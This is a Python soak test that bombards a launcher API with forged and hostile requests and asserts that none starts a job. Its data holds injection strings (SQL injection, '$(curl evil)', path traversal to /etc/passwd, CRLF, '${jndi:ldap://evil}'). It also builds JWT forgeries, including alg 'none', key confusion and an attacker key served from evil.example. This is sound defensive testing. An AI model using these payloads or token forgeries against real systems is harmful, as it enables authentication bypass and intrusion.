"""Hostile requests: none of them starts anything, whatever they are made of.

The soak sends 100,000 of them. Each kind is a function that makes one; those that are signed well
are made ahead, since a signature takes longer than all the rest.
"""

import asyncio
import base64
import gc
import hashlib
import hmac
import json
import logging
import os
import random
import tracemalloc

import pytest
import structlog
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from local.oidc import Issuer, Key, encode, encode_json, make_claims
from tests.unit.launcher.api.scene import AUDIENCE, ISSUER, TOKEN, play, sign

HOSTILE = int(os.environ.get("HOSTILE_REQUESTS", "4000"))
"""The soak sets 100,000."""
GOOD = {"labels": ["small", "run-1"]}
ODD = [
    "",
    " ",
    "\0",
    "\n",
    "'; DROP TABLE launches; --",
    "$(curl evil)",
    "`id`",
    "../../etc/passwd",
    "%0d%0aX-Evil: 1",
    "\r\nX-Evil: 1",
    "{{7*7}}",
    "${jndi:ldap://evil}",
    "<script>",
    "é",
    "\u202e",
    "\ud800",
    "a" * 5000,
    "-1",
    "1e400",
    0,
    -1,
    1.5,
    2**70,
    True,
    None,
    [],
    {},
    ["small"],
    {"S": "x"},
]
CLAIMS = (
    *("iss", "aud", "sub", "jti", "exp", "nbf", "iat", "repository", "repository_id"),
    *("repository_owner_id", "event_name", "ref", "run_id", "run_attempt", "check_run_id"),
)
"""All that is read out of a token."""
FIELDS = ("labels", "key", "pool", "subnet", "security_group", "role", "image", "type", "odd")
GARO_FIELDS = (
    *("repo", "account_id", "external_id", "time", "sg", "subnet", "type", "label", "region"),
    *("timeout", "instanceRoleArn", "instanceType", "imageid", "dryrun", "odd"),
)


def _is_harmless(field, value):
    """Whether a request with this value is a good one, or changes nothing."""
    if value in (None, "") and field not in ("repo", "account_id", "external_id", "time"):
        return True
    if (field, value) == ("label", "1e400"):
        return True
    is_number = type(value) in (int, float) and 0 <= value < 10**12
    return (field == "timeout" and is_number) or (field == "dryrun" and type(value) is bool)


@pytest.fixture
def silent():
    """Keep no log line: there are as many as requests."""
    structlog.configure(wrapper_class=structlog.make_filtering_bound_logger(logging.CRITICAL))


class Attacker:
    """Makes hostile requests; `chance` is seeded."""

    def __init__(self, scene, chance):
        self.scene = scene
        self.chance = chance
        self.token = scene.mint(run_id="5", check_run_id="55")
        """A token that was seen on its way, and has begun a start."""
        self.signed = json.dumps(scene.fields()).encode()
        """A request of GARO's that was seen on its way, and has started something."""
        self.id = ""
        self.own = Key.fresh()
        self.well_signed = self._sign_many()
        self.own_signed = [self._sign_by_own() for _ in range(20)]
        public = scene.issuer.key.private.public_key()
        self.public = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
        self.kinds = [
            *(self.flip, self.unsigned, self.confused, self.unknown_key, self.own_key),
            *(self.replay_another, self.claim, self.field, self.stranger_looks),
            *(self.garo_forged, self.garo_time, self.garo_repository, self.garo_field),
            *(self.garo_token, self.garo_damaged, self.garbage),
        ]
        self.replays = [self.replay, self.garo_replay]

    def _sign_many(self):
        """Sign well what no caller's token holds: other times, repositories, odd claims."""
        now = int(self.scene.work.now())
        many = [
            *({"repository_id": number} for number in (8, 70, 77)),
            *({"repository_id": 9, "owner_id": 3, "repository": "octo/app"} for _ in range(2)),
            {"exp": now - 31},
            {"nbf": now + 31},
            {"iat": now + 31, "exp": now + 60},
            {"exp": now + 86_400},
            {"event_name": "pull_request_target"},
            {"event_name": "pull_request"},
            {"ref": "refs/heads/evil"},
            {"ref": "refs/heads/main/../evil"},
            {"ref": "refs/tags/v1/evil"},
            {"aud": "https://github.com/octo"},
            {"aud": ["x", "y"]},
        ]
        odd = [{claim: odd} for claim in CLAIMS for odd in ODD]
        good = {"repository": "octo/app"}
        tokens = [self.scene.issuer.mint(AUDIENCE, **{**good, **each}) for each in many]
        claims = make_claims(ISSUER, AUDIENCE, now, **good)
        # Good for as long as there are clocks: that is no attack.
        odd = [each for each in odd if each.get("nbf", "") not in (0, -1, 1.5)]
        return tokens + [self.scene.issuer.sign({**claims, **each}) for each in odd]

    def _sign_by_own(self):
        """Sign by the attacker's own key, which the head tells in all ways that there are."""
        issuer, name = Issuer(ISSUER, self.scene.work.now), self.scene.issuer.key.name
        issuer.key = self.own
        claims = make_claims(ISSUER, AUDIENCE, int(issuer.now()), repository="octo/app")
        url = "https://evil.example/.well-known/jwks"
        return issuer.sign(claims, kid=name, jwk=self.own.to_jwk(), jku=url, x5u=url)

    # -- tokens --------------------------------------------------------------------------------

    def flip(self):
        """Change one character of a good token."""
        place = self.chance.randrange(len(self.token) - 3)  # the last ones may say nothing
        other = self.chance.choice("ABCDefgh0123-_.")
        changed = self.token[:place] + other + self.token[place + 1 :]
        return self.bearer("x" if changed == self.token else changed)

    def unsigned(self):
        """Sign nothing, as the head says: the old attack."""
        alg = self.chance.choice(["none", "None", "NONE", "nOnE", ""])
        claims = self.claims()
        head = {"alg": alg, "typ": "JWT", "kid": self.scene.issuer.key.name}
        return self.bearer(f"{encode_json(head)}.{encode_json(claims)}.{encode(b'')}")

    def confused(self):
        """HMAC with the public key as its secret, which everybody knows."""
        head = {"alg": self.chance.choice(["HS256", "HS512"]), "kid": self.scene.issuer.key.name}
        signed = f"{encode_json(head)}.{encode_json(self.claims())}"
        digest = hmac.digest(self.public, signed.encode(), hashlib.sha256)
        return self.bearer(f"{signed}.{encode(digest)}")

    def unknown_key(self):
        """Name a key that nobody lists: each would be a fetch."""
        head = {"alg": "RS256", "kid": self.chance.randbytes(8).hex()}
        signed = f"{encode_json(head)}.{encode_json(self.claims())}"
        return self.bearer(f"{signed}.{encode(self.chance.randbytes(256))}")

    def own_key(self):
        """Tell the attacker's own key in the head, under the name of GitHub's."""
        return self.bearer(self.chance.choice(self.own_signed))

    def claim(self):
        """Signed by GitHub, and no caller's."""
        return self.bearer(self.chance.choice(self.well_signed))

    def replay(self):
        """Send again a start that was seen on its way."""
        return self.bearer(self.token)

    def replay_another(self):
        """Its token, with another order."""
        return self.bearer(self.token, {**GOOD, "key": f"k{self.chance.randrange(10**6)}"})

    def field(self):
        """Its token, with an odd value in some field."""
        odd = self.chance.choice(ODD) or "odd"
        return self.bearer(self.token, {**GOOD, "key": "odd", self.chance.choice(FIELDS): odd})

    def stranger_looks(self):
        """Look at or stop what is made up, or belongs to another repository."""
        path = self.chance.choice(["/state", "/stop"])
        token = self.token if self.chance.random() < 0.5 else self.well_signed[0]
        id_ = self.id if token != self.token else self.chance.randbytes(16).hex()
        return self.bearer(token, {"id": id_}, path)

    def claims(self):
        """Return claims that would be good ones."""
        return {**make_claims(ISSUER, AUDIENCE, int(self.scene.work.now()), repository="octo/app")}

    def bearer(self, token, document=GOOD, path="/start"):
        """Make a request of the API's own contract."""
        return path, {"authorization": f"Bearer {token}"}, json.dumps(document).encode()

    # -- GARO ----------------------------------------------------------------------------------

    def garo_replay(self):
        """Send a request again that was seen on its way, now and then signed in capitals."""
        headers = sign(self.signed)
        if self.chance.random() < 0.5:
            headers["x-github-signature"] = headers["x-github-signature"].upper()
        return "/start", headers, self.signed

    def garo_forged(self):
        """Send another body with the signature of the first."""
        body = json.dumps(self.scene.fields(label=self.chance.randbytes(4).hex())).encode()
        return "/start", sign(self.signed), body

    def garo_damaged(self):
        """Change one byte of the first body."""
        place = self.chance.randrange(len(self.signed))
        changed = bytearray(self.signed)
        changed[place] ^= self.chance.randrange(1, 256)
        return "/start", sign(self.signed), bytes(changed)

    def garo_time(self):
        """Signed well, of another time."""
        away = self.chance.choice([-1, 1]) * self.chance.randrange(31, 10**8)
        return self.garo(time=int(self.scene.work.now()) + away)

    def garo_repository(self):
        """Signed well, by somebody who is not listed."""
        name = self.chance.randbytes(4).hex()
        key = self.chance.choice(["repo", "external_id"])
        return self.garo(**{key: f"octo/{name}" if key == "repo" else name})

    def garo_field(self):
        """Signed well by the right token, with an odd value in some field."""
        while True:
            field, value = self.chance.choice(GARO_FIELDS), self.chance.choice(ODD)
            if field == "odd" or not _is_harmless(field, value):
                return self.garo(**{field: value})

    def garo_token(self):
        """Signed well, by a token that may do nothing."""
        kind = self.chance.choice(["ghs_", "ghp_", "gho_", "github_pat_", ""])
        return self.garo(token=kind + self.chance.randbytes(15).hex())

    def garo(self, token=TOKEN, **fields):
        """Make a request of GARO's contract that is signed well."""
        body = json.dumps({**self.scene.fields(), **fields}).encode()
        return "/start", sign(body, token), body

    def garbage(self):
        """Send anything."""
        body = self.chance.randbytes(self.chance.randrange(300))
        headers = {"authorization": "Bearer " + base64.b64encode(body).decode()}
        if self.chance.random() < 0.5:
            headers |= sign(body)
        return self.chance.choice(["/start", "/state", "/stop", "/"]), headers, body


def test_hostile_requests_start_nothing_and_the_memory_stays_flat(silent):
    """Forged, replayed, of the future, of others, odd in every field: nothing more begins."""

    async def story(scene):
        attacker = Attacker(scene, random.Random(15))  # noqa: S311  seeded
        assert (await scene.start(attacker.token))[0] == 200
        first = await scene.api.answer("POST", *attacker.replay())
        first_garo = await scene.api.answer("POST", *attacker.garo_replay())
        assert (first.status, first_garo.status) == (200, 200)
        attacker.id = first.document["id"]
        assert len(scene.started) == 2
        table = scene.work.records._calls._client.table
        items = len(table.items)
        statuses = {}
        tracemalloc.start()
        for number in range(HOSTILE // 2):
            kind = attacker.chance.choice(attacker.kinds)
            request = kind()
            answer = await scene.api.answer("POST", *request)
            statuses.setdefault(kind.__name__, set()).add(answer.status)
            assert len(scene.started) == 2, (kind, request)
            replay = attacker.chance.choice(attacker.replays)
            again = await scene.api.answer("POST", *replay())
            assert again == (first if replay == attacker.replay else first_garo)
            await asyncio.sleep(0)  # else the loop never gets to forget timers that have ended
            del scene.proof.asked[:], scene.accounts.opened[:]
            if number == HOSTILE // 20:
                gc.collect()
                before = tracemalloc.get_traced_memory()[0]
        gc.collect()
        grown = tracemalloc.get_traced_memory()[0] - before
        tracemalloc.stop()
        assert len(scene.started) == 2
        assert scene.work.tasks.stops == []
        assert len(table.items) == items
        assert scene.issuer.fetches == 1
        return grown, statuses

    grown, statuses = play(story, seconds=120 + HOSTILE / 50)
    assert grown < 1024 * 1024
    assert not {200} & set.union(*statuses.values()), statuses
    assert set.union(*statuses.values()) <= {400, 401, 403, 404, 409}, statuses
